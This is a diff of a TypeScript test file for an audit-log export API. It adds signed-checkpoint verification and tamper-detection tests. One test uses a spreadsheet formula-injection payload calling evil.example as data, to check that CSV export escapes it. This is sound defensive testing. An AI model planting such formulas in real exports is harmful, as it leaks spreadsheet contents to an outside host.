@@ -2,7 +2,7 @@ import { runInDurableObject } from "cloudflare:test";
 import { env } from "cloudflare:workers";
 import { describe, expect, it } from "vitest";
 import type { paths } from "../../clients/typescript/index";
-import { headCheckpoint } from "../../src/audit/chain";
+import { linkHash, payloadHash } from "../../src/audit/chain";
 import { auditClient } from "../../src/audit/client";
 import {
   EXPORT_COLUMNS,
@@ -12,30 +12,30 @@ import {
   ExportVerifier,
 } from "../../src/audit/export-file";
 import { EXPORT_CHUNK_ROWS } from "../../src/audit/export-stream";
-import { ChainWriter, type EntryFields } from "../../src/audit/store";
-import type { AuditEventInput } from "../../src/audit/types";
+import { keyIdOf, type NoteKey, parseVerifierKey } from "../../src/audit/signed-note";
+import { type EntryFields, LogWriter } from "../../src/audit/store";
+import { readFrontier, readHead } from "../../src/audit/tree-store";
+import type { AuditEventInput, AuditRow } from "../../src/audit/types";
 import { call } from "../helpers/api";
+import { event as auditEvent, entryFields } from "../helpers/audit";
 import type { TokenClaims } from "../helpers/auth";
 import { api } from "../helpers/client";
 import { type TestOrg, testOrg } from "../helpers/org";
 
 const EXPORT = "/api/v1/proxy-audit-logs/export";
-const CHAIN_KEY = "test-audit-chain-key";
+
+/** The deployment's public keys, as a compliance officer fetches them once and keeps them. */
+async function publicKeys(): Promise<NoteKey[]> {
+  const res = await call("GET", "/.well-known/audit-log-keys");
+  const { keys } = (await res.json()) as { keys: { verifier_key: string }[] };
+  return keys.map((key) => parseVerifierKey(key.verifier_key));
+}
 
 type ExportQuery = paths[typeof EXPORT]["get"]["parameters"]["query"];
 
-function event(id: string, extra: Partial<AuditEventInput> = {}): AuditEventInput {
-  return {
-    event_id: id,
-    action: "proxy_created",
-    actor_id: "coord-119",
-    actor_name: 'Jordan "JL" Lee, coordinator',
-    coordinator_id: "coord-119",
-    mentor_id: "mentor-482",
-    activity_id: `pa-${id}`,
-    ...extra,
-  };
-}
+/** An event whose actor name needs CSV quoting. */
+const event = (id: string, extra: Partial<AuditEventInput> = {}): AuditEventInput =>
+  auditEvent(id, { actor_name: 'Jordan "JL" Lee, coordinator', ...extra });
 
 /** Four entries, the second deleted: five rows with the entry_deleted record. */
 async function seeded(): Promise<TestOrg> {
@@ -65,8 +65,8 @@ async function download(
   return { res: response, text: data === undefined ? "" : new TextDecoder().decode(data) };
 }
 
-function verify(text: string, format: ExportFormat, key?: string): ExportVerdict {
-  const verifier = new ExportVerifier(format, key);
+function verify(text: string, format: ExportFormat, keys: NoteKey[], org?: string): ExportVerdict {
+  const verifier = new ExportVerifier(format, { keys, ...(org ? { org } : {}) });
   for (const line of text.split("\n")) verifier.push(line);
   return verifier.finish();
 }
@@ -79,7 +79,7 @@ function ndjsonLines(text: string): Record<string, unknown>[] {
 }
 
 describe("GET /api/v1/proxy-audit-logs/export", () => {
-  it("streams NDJSON rows with their hashes, redacted rows included, and a keyed trailer", async () => {
+  it("streams NDJSON rows with their hashes, redacted rows included, and a signed checkpoint in the trailer", async () => {
     const o = await seeded();
     const { res, text } = await download(o.compliance, { format: "ndjson" });
     expect(res.status).toBe(200);
@@ -91,19 +91,38 @@ describe("GET /api/v1/proxy-audit-logs/export", () => {
     expect(rows.map((r) => r.seq)).toEqual([1, 2, 3, 4, 5]);
     for (const row of rows) expect(Object.keys(row)).toEqual([...EXPORT_COLUMNS]);
     expect(rows[0]).toMatchObject({ event_id: "e1", action: "proxy_created", ip_address: "192.168.1.42" });
-    expect(rows[1]).toMatchObject({ event_id: "e2", redacted: 1, action: null, mentor_id: null });
+    expect(rows[1]).toMatchObject({
+      event_id: "e2",
+      redacted: 1,
+      action: null,
+      mentor_id: null,
+      activity_id: "pa-e2",
+    });
     expect(rows[1]?.payload_hash).toMatch(/^[0-9a-f]{64}$/);
     expect(rows[4]).toMatchObject({ action: "entry_deleted", target_seq: 2 });
 
     const trailer = lines[5]?.export_trailer as ExportTrailer;
     const head = { seq: 5, hash: rows[4]?.hash as string };
-    expect(trailer).toMatchObject({ rows: 5, from: null, to: null, head, log_head_seq: 5 });
-    expect(trailer.checkpoint).toBe(headCheckpoint(CHAIN_KEY, head.seq, head.hash));
-    expect(verify(text, "ndjson", CHAIN_KEY)).toEqual({
+    expect(trailer).toMatchObject({
+      rows: 5,
+      from: null,
+      to: null,
+      head,
+      verifiable: true,
+      tree_size: 5,
+      log_head_seq: 5,
+    });
+    const signed = await api(o.compliance).GET("/api/v1/proxy-audit-logs/checkpoint");
+    expect(trailer.checkpoint).toBe(signed.data?.checkpoint);
+    const keys = await publicKeys();
+    expect(verify(text, "ndjson", keys, o.org)).toEqual({
       valid: true,
       entries_checked: 5,
       head,
-      checkpoint_checked: true,
+      verifiable: true,
+      unverifiable_reason: null,
+      signed_by: keys[0],
+      origin: `mentor-activity-api/${o.org}`,
       fault: null,
     });
   });
@@ -116,11 +135,35 @@ describe("GET /api/v1/proxy-audit-logs/export", () => {
     const lines = text.split("\n");
     expect(lines[0]).toBe(EXPORT_COLUMNS.join(","));
     expect(lines[1]).toMatch(/^1,"e1",0,"proxy_created","coord-119","Jordan ""JL"" Lee, coordinator",/);
-    // The redacted row: only its sequence number, event ID, flag and hashes are left.
-    expect(lines[2]).toMatch(/^2,"e2",1,(,){22}"[0-9a-f]{64}","[0-9a-f]{64}","[0-9a-f]{64}"$/);
+    // The redacted row: its sequence number, event ID, flag, the activity that places it, and hashes.
+    expect(lines[2]).toMatch(/^2,"e2",1,(,){6}"pa-e2",(,){16}"[0-9a-f]{64}","[0-9a-f]{64}","[0-9a-f]{64}"$/);
     expect(lines.at(-1)).toBe("");
     expect(lines.at(-2)).toMatch(/^#export_trailer \{"rows":5,/);
-    expect(verify(text, "csv", CHAIN_KEY)).toMatchObject({ valid: true, entries_checked: 5 });
+    expect(verify(text, "csv", await publicKeys(), o.org)).toMatchObject({
+      valid: true,
+      entries_checked: 5,
+      verifiable: true,
+    });
+  });
+
+  it("escapes a cell a spreadsheet would run as a formula, and the file still verifies", async () => {
+    const o = await testOrg("export");
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
+    await auditClient(env, o.org).append([
+      event("f1", {
+        user_agent: formula,
+        actor_name: "+1 (555) 0100",
+        changes: { notes: { from: "-5", to: "'quoted" } },
+      }),
+    ]);
+    const { text } = await download(o.admin, { format: "csv" });
+    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
+    expect(text).toContain('"\'+1 (555) 0100"');
+    expect(text).not.toMatch(/(^|,)"=/m);
+    expect(verify(text, "csv", await publicKeys(), o.org)).toMatchObject({ valid: true, verifiable: true });
+    // NDJSON is not opened by spreadsheets and keeps the value as it is.
+    const ndjson = await download(o.admin, { format: "ndjson" });
+    expect(ndjsonLines(ndjson.text)[0]?.user_agent).toBe(formula);
   });
 
   it("keeps NULL and the empty string apart in CSV, and a value spanning lines", async () => {
@@ -130,7 +173,11 @@ describe("GET /api/v1/proxy-audit-logs/export", () => {
     ]);
     const { text } = await download(o.compliance, { format: "csv" });
     expect(text).toContain('"line\nbreak"');
-    expect(verify(text, "csv", CHAIN_KEY)).toMatchObject({ valid: true, entries_checked: 1 });
+    expect(verify(text, "csv", await publicKeys())).toMatchObject({
+      valid: true,
+      entries_checked: 1,
+      verifiable: true,
+    });
   });
 
   it("pulls a log larger than one chunk in order", async () => {
@@ -146,16 +193,21 @@ describe("GET /api/v1/proxy-audit-logs/export", () => {
       .slice(0, -1)
       .map((r) => r.seq);
     expect(seqs).toEqual(Array.from({ length: total }, (_, i) => i + 1));
-    expect(verify(text, "ndjson", CHAIN_KEY)).toMatchObject({ valid: true, entries_checked: total });
+    expect(verify(text, "ndjson", await publicKeys())).toMatchObject({
+      valid: true,
+      entries_checked: total,
+      verifiable: true,
+    });
   });
 
-  it("exports the run of entries appended between from and to, with the checkpoint of its last", async () => {
+  it("exports the run of entries appended between from and to, and says it is not verifiable against a root", async () => {
     const o = await testOrg("export");
     const stub = env.AUDIT_LOG.get(env.AUDIT_LOG.idFromName(o.org));
     const days = ["2026-03-01", "2026-03-02", "2026-03-03", "2026-03-04"];
-    // Entries appended on four days, written through the object's own chain writer.
+    // Entries appended on four days, written through the object's own log writer.
     await runInDurableObject(stub, (_instance, state) => {
-      const writer = new ChainWriter(state.storage.sql, CHAIN_KEY);
+      const head = readHead(state.storage.sql);
+      const writer = new LogWriter(state.storage.sql, readFrontier(state.storage.sql, head.treeSize), head);
       for (const [i, day] of days.entries()) writer.add(entryOn(`day-${i + 1}`, `${day}T10:00:00Z`));
       writer.commit();
     });
@@ -173,10 +225,19 @@ describe("GET /api/v1/proxy-audit-logs/export", () => {
       from: "2026-03-02T00:00:00Z",
       to: "2026-03-03T23:59:59Z",
       head: { seq: 3, hash: last.hash },
-      checkpoint: headCheckpoint(CHAIN_KEY, 3, last.hash),
+      verifiable: false,
+      checkpoint: null,
+      tree_size: null,
       log_head_seq: 4,
     });
-    expect(verify(text, "ndjson", CHAIN_KEY)).toMatchObject({ valid: true, entries_checked: 2 });
+    expect(trailer.unverifiable_reason).toMatch(/ranged export/);
+    // Its rows hold together, but no signed root covers exactly them.
+    expect(verify(text, "ndjson", await publicKeys())).toMatchObject({
+      valid: true,
+      entries_checked: 2,
+      verifiable: false,
+      signed_by: null,
+    });
 
     const empty = await download(o.compliance, { from: "2026-04-01T00:00:00Z" });
     const emptyLines = ndjsonLines(empty.text);
@@ -198,33 +259,8 @@ describe("GET /api/v1/proxy-audit-logs/export", () => {
   });
 });
 
-function entryOn(eventId: string, recordedAt: string): EntryFields {
-  return {
-    event_id: eventId,
-    action: "proxy_created",
-    actor_id: "coord-119",
-    actor_name: null,
-    coordinator_id: "coord-119",
-    mentor_id: "mentor-482",
-    mentor_name: null,
-    activity_id: null,
-    attribution_id: null,
-    batch_id: null,
-    mentor_ids: null,
-    activity_type_id: null,
-    activity_date: null,
-    mentor_count: null,
-    skipped_count: null,
-    changes: null,
-    ip_address: null,
-    user_agent: null,
-    target_seq: null,
-    annotation: null,
-    reviewed_by: null,
-    timestamp: recordedAt,
-    recorded_at: recordedAt,
-  };
-}
+const entryOn = (eventId: string, recordedAt: string): EntryFields =>
+  entryFields({ event_id: eventId, mentor_id: "mentor-482", timestamp: recordedAt, recorded_at: recordedAt });
 
 describe("verifying an export file", () => {
   async function exported(format: ExportFormat): Promise<string> {
@@ -235,27 +271,42 @@ describe("verifying an export file", () => {
   it("names the row whose field was changed (NDJSON)", async () => {
     const lines = (await exported("ndjson")).split("\n");
     lines[2] = (lines[2] ?? "").replace('"mentor_id":null', '"mentor_id":"mentor-999"');
-    expect(verify(lines.join("\n"), "ndjson").fault).toMatchObject({ line: 3, seq: 3 });
-    expect(verify(lines.join("\n"), "ndjson").fault?.reason).toBe("payload_hash_mismatch");
+    expect(verify(lines.join("\n"), "ndjson", await publicKeys()).fault).toMatchObject({ line: 3, seq: 3 });
+    expect(verify(lines.join("\n"), "ndjson", await publicKeys()).fault?.reason).toBe(
+      "payload_hash_mismatch",
+    );
   });
 
   it("names the row whose field was changed (CSV)", async () => {
     const lines = (await exported("csv")).split("\n");
     lines[4] = (lines[4] ?? "").replace('"coord-007"', '"coord-119"');
-    expect(verify(lines.join("\n"), "csv").fault).toMatchObject({
+    expect(verify(lines.join("\n"), "csv", await publicKeys()).fault).toMatchObject({
       line: 5,
       seq: 4,
       reason: "payload_hash_mismatch",
     });
   });
 
-  it("finds a removed row, a cut-short file, a hidden redaction and a wrong key", async () => {
+  it("finds a removed row, a reordered row, a cut-short file and a hidden redaction", async () => {
     const lines = (await exported("ndjson")).split("\n");
     const without = [...lines.slice(0, 2), ...lines.slice(3)].join("\n");
-    expect(verify(without, "ndjson").fault).toMatchObject({ line: 3, seq: 3, reason: "sequence_gap" });
+    expect(verify(without, "ndjson", await publicKeys()).fault).toMatchObject({
+      line: 3,
+      seq: 3,
+      reason: "sequence_gap",
+    });
+
+    const reordered = [lines[0], lines[2], lines[1], ...lines.slice(3)].join("\n");
+    expect(verify(reordered, "ndjson", await publicKeys()).fault).toMatchObject({
+      line: 2,
+      reason: "sequence_gap",
+    });
 
     const cut = lines.slice(0, 3).join("\n");
-    expect(verify(cut, "ndjson").fault).toMatchObject({ line: null, reason: "missing_trailer" });
+    expect(verify(cut, "ndjson", await publicKeys()).fault).toMatchObject({
+      line: null,
+      reason: "missing_trailer",
+    });
 
     // Redacting a row in the file keeps its hashes valid, but no deletion record names it.
     const first = JSON.parse(lines[0] ?? "{}") as Record<string, unknown>;
@@ -265,11 +316,67 @@ describe("verifying an export file", () => {
       ),
     );
     const redacted = [JSON.stringify({ ...hidden, redacted: 1 }), ...lines.slice(1)].join("\n");
-    expect(verify(redacted, "ndjson").fault).toMatchObject({ seq: 1, reason: "unrecorded_redaction" });
-
-    expect(verify(lines.join("\n"), "ndjson", "another-key").fault).toMatchObject({
-      reason: "checkpoint_mismatch",
+    expect(verify(redacted, "ndjson", await publicKeys()).fault).toMatchObject({
+      seq: 1,
+      reason: "unrecorded_redaction",
     });
-    expect(verify(lines.join("\n"), "ndjson")).toMatchObject({ valid: true, checkpoint_checked: false });
+  });
+
+  it("checks the checkpoint with the public key: another key, another log's checkpoint and a rebuilt file fail", async () => {
+    const keys = await publicKeys();
+    const o = await seeded();
+    const text = (await download(o.compliance, { format: "ndjson" })).text;
+    expect(verify(text, "ndjson", keys, o.org)).toMatchObject({ valid: true, verifiable: true });
+    // Without a key nothing vouches for the checkpoint.
+    expect(verify(text, "ndjson", []).fault).toMatchObject({ reason: "signature_invalid" });
+
+    // A key of the same name that is not the deployment's: its signature is not there, so nothing verifies.
+    const pair = (await crypto.subtle.generateKey({ name: "Ed25519" }, true, [
+      "sign",
+      "verify",
+    ])) as CryptoKeyPair;
+    const raw = new Uint8Array((await crypto.subtle.exportKey("raw", pair.publicKey)) as ArrayBuffer);
+    const name = keys[0]?.name ?? "";
+    const stranger: NoteKey = { name, keyId: keyIdOf(name, raw), publicKey: raw };
+    expect(verify(text, "ndjson", [stranger]).fault).toMatchObject({ reason: "signature_invalid" });
+    // The deployment's key ID with another key: the signature is checked and fails.
+    const impostor: NoteKey = { ...stranger, keyId: keys[0]?.keyId ?? "" };
+    expect(verify(text, "ndjson", [impostor]).fault).toMatchObject({ reason: "signature_invalid" });
+    // The same log asked for as another organisation's.
+    expect(verify(text, "ndjson", keys, "another-org").fault).toMatchObject({ reason: "origin_mismatch" });
+
+    // Another log's checkpoint swapped into this file's trailer.
+    const elsewhere = await seeded();
+    const theirs = ndjsonLines((await download(elsewhere.compliance)).text).at(-1)
+      ?.export_trailer as ExportTrailer;
+    const lines = text.trimEnd().split("\n");
+    const trailer = JSON.parse(lines.at(-1) ?? "{}") as { export_trailer: ExportTrailer };
+    const swapped = [
+      ...lines.slice(0, -1),
+      JSON.stringify({ export_trailer: { ...trailer.export_trailer, checkpoint: theirs.checkpoint } }),
+    ];
+    expect(verify(swapped.join("\n"), "ndjson", keys, o.org).fault).toMatchObject({
+      reason: "origin_mismatch",
+    });
+    expect(verify(swapped.join("\n"), "ndjson", keys).fault).toMatchObject({ reason: "root_mismatch" });
+
+    // A row changed and every hash recomputed to match: the root is not the signed one.
+    const rows = lines.slice(0, -1).map((line) => JSON.parse(line) as AuditRow);
+    const forged = rows.map((row) => (row.seq === 1 ? { ...row, actor_name: "Someone Else" } : row));
+    let prev = "0".repeat(64);
+    for (const row of forged) {
+      if (row.redacted === 0) row.payload_hash = payloadHash(row);
+      row.prev_hash = prev;
+      row.hash = linkHash(prev, row.payload_hash);
+      prev = row.hash;
+    }
+    const head = { seq: 5, hash: prev };
+    const rebuilt = [
+      ...forged.map((row) => JSON.stringify(row)),
+      JSON.stringify({ export_trailer: { ...trailer.export_trailer, head } }),
+    ];
+    expect(verify(rebuilt.join("\n"), "ndjson", keys, o.org).fault).toMatchObject({
+      reason: "root_mismatch",
+    });
   });
 });
